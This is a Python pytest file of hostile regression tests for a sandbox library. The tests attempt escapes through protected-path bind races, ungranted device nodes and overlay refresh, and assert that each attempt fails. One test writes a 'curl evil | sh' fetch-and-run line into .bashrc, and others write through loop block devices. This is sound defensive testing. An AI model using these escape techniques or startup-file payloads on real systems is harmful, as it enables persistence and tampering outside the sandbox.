"""Hostile reviews of issue 14 (egress proxy, violations, protected paths, devices).

Each test FAILS on the code it was written against and checks outside state.
Everything lives under a temp dir or 127.0.0.1 that the test makes.
"""

from __future__ import annotations

import os
import shutil
import tempfile
from pathlib import Path

import pytest
import trio

import sandbox_fs
from sandbox_fs import exec as sfs_exec
from sandbox_fs import open_root
from sandbox_fs.exec import ConfinementPolicy, run_confined

ABI = sandbox_fs.features()["landlock_abi"]

pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="the leased identity needs a root host"),
    pytest.mark.skipif(not os.access(sfs_exec.helper_path(), os.X_OK), reason="sfs-exec is not built"),
    pytest.mark.skipif(ABI == 0, reason="no Landlock"),
]


def sh(script: str) -> list[str]:
    return ["/bin/sh", "-c", script]


@pytest.fixture
def base():
    d = Path(tempfile.mkdtemp(prefix="sfs-attack2-"))
    os.chmod(d, 0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


async def test_concurrent_protected_run_loses_its_placeholder_when_the_other_run_ends(base):
    """Run A makes the `.bashrc` placeholder; run B (same policy, same workspace)
    takes A's placeholder as an existing entry and binds it.  When A ends, its
    release unlinks the placeholder in the host namespace, which (Linux >= 3.18)
    lazily detaches B's read-only bind on it: B then creates `.bashrc`."""
    ws = base / "ws"
    ws.mkdir()
    policy = ConfinementPolicy(protected=(".bashrc",))
    root = open_root(ws)
    out: dict[str, object] = {}
    try:
        async def run_a():
            out["a"] = await run_confined(sh("sleep 1"), workspace=root, workspace_host_path=str(ws),
                                          policy=policy)

        async def run_b():
            await trio.sleep(0.4)  # A's placeholder exists now
            out["b"] = await run_confined(
                sh("(echo evil > .bashrc) 2>/dev/null && echo EARLY; sleep 2; "
                   "(echo 'curl evil | sh' > .bashrc) 2>/dev/null && echo LATE"),
                workspace=root, workspace_host_path=str(ws), policy=policy)

        async with trio.open_nursery() as n:
            n.start_soon(run_a)
            n.start_soon(run_b)
    finally:
        root.close()
    b = out["b"]
    assert b.read_only_mounts, b
    assert b"EARLY" not in b.stdout  # protected while A lives
    assert not (ws / ".bashrc").exists(), (b.stdout, (ws / ".bashrc").read_text())


@pytest.fixture
def loopdev(base):
    """A loop block device backed by a file under the temp dir (never a real disk)."""
    import subprocess
    backing = base / "backing.img"
    backing.write_bytes(b"SENTINEL-OUTSIDE" + b"\0" * (64 * 1024 - 16))
    dev = subprocess.run(["losetup", "-f", "--show", str(backing)], capture_output=True, text=True)
    if dev.returncode != 0:
        pytest.skip("no loop device")
    path = dev.stdout.strip()
    yield backing, os.major(os.stat(path).st_rdev), os.minor(os.stat(path).st_rdev)
    subprocess.run(["losetup", "-d", path])


async def test_device_node_in_a_writable_tree_is_usable_ungranted(base, loopdev):
    """The read-only mount layer clones the writable trees with nosuid but not
    nodev, and Landlock's READ_FILE/WRITE_FILE on the workspace cover device
    files: a device node already in the workspace (a copied rootfs, a grant of
    a container's tree) is opened although `devices=()` grants nothing."""
    backing, major, minor = loopdev
    ws = base / "ws"
    ws.mkdir()
    os.mknod(ws / "disk", 0o666 | 0o060000, os.makedev(major, minor))  # S_IFBLK, in the temp dir only
    os.chmod(ws / "disk", 0o666)  # past the umask: only the mount layer may refuse the write
    root = open_root(ws)
    try:
        r = await run_confined(sh("head -c 16 disk; echo; printf PWNED | dd of=disk bs=1 seek=100 conv=notrunc "
                                  "2>/dev/null; sync"),
                               workspace=root, workspace_host_path=str(ws), policy=ConfinementPolicy())
    finally:
        root.close()
    assert r.read_only_mounts and r.identity is not None and r.identity[0] != 0
    os.sync()
    data = backing.read_bytes()
    assert b"SENTINEL-OUTSIDE" not in r.stdout, r.stdout  # read the block device
    assert data[100:105] != b"PWNED"  # wrote through it to the outside file


@pytest.mark.parametrize("read_only", [False, True], ids=["rw-grant", "ro-grant"])
async def test_device_node_in_a_grant_is_unusable_ungranted(base, loopdev, read_only):
    """The same node in a read-write grant (a --rw-tree clone) or a read-only one
    (a --reach-tree: a read-only mount does not stop writes through a device node)."""
    backing, major, minor = loopdev
    ws, g = base / "ws", base / "grant"
    ws.mkdir()
    g.mkdir()
    os.mknod(g / "disk", 0o666 | 0o060000, os.makedev(major, minor))
    os.chmod(g / "disk", 0o666)
    ids = (0x6F00_4568, 0x6F00_4568)
    if not read_only:
        os.chown(g, *ids)  # a read-write grant must be the confined identity's
    root, groot = open_root(ws), open_root(g, read_only=read_only)
    try:
        r = await run_confined(sh(f"head -c 16 {g}/disk; echo; printf PWNED | dd of={g}/disk bs=1 seek=100 "
                                  "conv=notrunc 2>/dev/null; sync; echo done"),
                               workspace=root, workspace_host_path=str(ws), grants=[(groot, read_only)],
                               policy=ConfinementPolicy(identity=ids))
    finally:
        root.close()
        groot.close()
    assert r.read_only_mounts and b"done" in r.stdout, r
    os.sync()
    assert b"SENTINEL-OUTSIDE" not in r.stdout, r.stdout
    assert backing.read_bytes()[100:105] != b"PWNED"


async def test_a_granted_node_in_the_nodev_workspace_stays_usable(base):
    """Positive control: only the --device bind drops nodev.  Two /dev/null-like
    nodes in the workspace: the granted one is written, the other refused."""
    ws = base / "ws"
    ws.mkdir()
    rdev = os.stat("/dev/null").st_rdev  # only its numbers: the nodes are made in the temp dir
    for n in ("null1", "null2"):
        os.mknod(ws / n, 0o666 | 0o020000, rdev)  # S_IFCHR
        os.chmod(ws / n, 0o666)  # past the umask
    root = open_root(ws)
    try:
        r = await run_confined(sh("echo hi > null1 && echo g-ok; echo hi > null2 2>/dev/null && echo u-ok; "
                                  "echo end"),
                               workspace=root, workspace_host_path=str(ws),
                               policy=ConfinementPolicy(devices=(str(ws / "null1"),)))
    finally:
        root.close()
    assert r.stdout.decode().split() == ["g-ok", "end"], r.stderr
    assert os.stat(ws / "null2").st_rdev == rdev and (ws / "null2").stat().st_size == 0


def _overlay_unusable() -> str | None:
    from sandbox_fs import _features

    usable, reason = _features.fuse_status()
    if not usable:
        return f"FUSE is not usable here: {reason}"
    import sandbox_fs.fuse as fuse

    return None if hasattr(fuse, "Overlay") else "this build has no sandbox_fs.fuse.Overlay"


async def test_a_second_overlay_run_keeps_the_first_runs_protection(tmp_path):
    """Session.exec refreshes the overlay view after each run's identity walk.
    An entry invalidation there detached the protected-path binds of the runs
    still going in the same session (d_invalidate unmounts what sits on the
    dentry): run A could write `.bashrc` once run B had started.  The refresh
    now drops attributes only, which is all an owner change needs."""
    why = _overlay_unusable()
    if why:
        pytest.skip(why)
    from sandbox_fs.client import ClientOptions, LocalSandboxClient

    policy = ConfinementPolicy(protected=(".bashrc",))
    client = LocalSandboxClient(ClientOptions(workspaces_dir=str(tmp_path / "wsdir"),
                                              snapshot_dir=str(tmp_path / "snaps"), overlay=True))
    out: dict[str, object] = {}
    try:
        async with client.create() as session:
            await session.write(".bashrc", b"orig\n")

            async def run_a():
                out["a"] = await session.exec(sh(
                    "(echo x > .bashrc) 2>/dev/null && echo EARLY; : > a-up; "
                    "i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done; "
                    "(echo evil > .bashrc) 2>/dev/null && echo WROTE; echo done"), policy=policy, timeout_s=60)

            async with trio.open_nursery() as n:
                n.start_soon(run_a)
                with trio.fail_after(30):
                    while "a-up" not in [e.name for e in await session.ls(".")]:
                        await trio.sleep(0.05)
                # an owner for B's identity walk to change (it refreshes the view then): A's file, re-owned
                # in the backing workspace
                (marker,) = (tmp_path / "wsdir").rglob("a-up")
                os.chown(marker, 0, 0)
                # B writes the re-owned file: the refresh still drops the cached owner (0644 root's: EACCES)
                b = await session.exec(sh("echo b > a-up && echo b"), policy=policy, timeout_s=60)
                assert b.stdout == b"b\n" and b.overlay, b
                await session.write("go", b"")
            a = out["a"]
            assert a.overlay and b"done" in a.stdout, (a.stdout, a.stderr)
            assert b"EARLY" not in a.stdout
            assert b"WROTE" not in a.stdout, a.stdout
            assert await session.read(".bashrc") == b"orig\n"
    finally:
        client.close()


def test_placeholder_references_are_per_tree_and_the_last_release_removes(base):
    """The plan level under both run kinds (run_confined and PTY sessions share GuardPlan):
    two plans over one tree share the placeholders; a user's own empty file is never counted."""
    from sandbox_fs.exec._protected import plan_guards

    ws = base / "ws"
    ws.mkdir()
    (ws / ".profile").write_bytes(b"")  # the user's, empty: never removed
    fds: list[int] = []

    def pass_fd(fd: int) -> str:
        fds.append(fd)
        return str(fd)

    pats = (".bashrc", ".vscode/tasks.json", ".profile")
    root_a, root_b = open_root(ws), open_root(ws)
    try:
        a = plan_guards([(root_a, None)], pats, (), pass_fd)
        assert (ws / ".bashrc").is_file() and (ws / ".vscode" / "tasks.json").is_file()
        b = plan_guards([(root_b, None)], pats, (), pass_fd)
        a.release()
        assert (ws / ".bashrc").is_file() and (ws / ".vscode" / "tasks.json").is_file()  # b still needs them
        b.release()
        assert sorted(os.listdir(ws)) == [".profile"]
        c = plan_guards([(root_a, None)], pats, (), pass_fd)  # a fresh count: made again, removed again
        c.release()
        assert sorted(os.listdir(ws)) == [".profile"]
    finally:
        root_a.close()
        root_b.close()
        for fd in fds:
            os.close(fd)
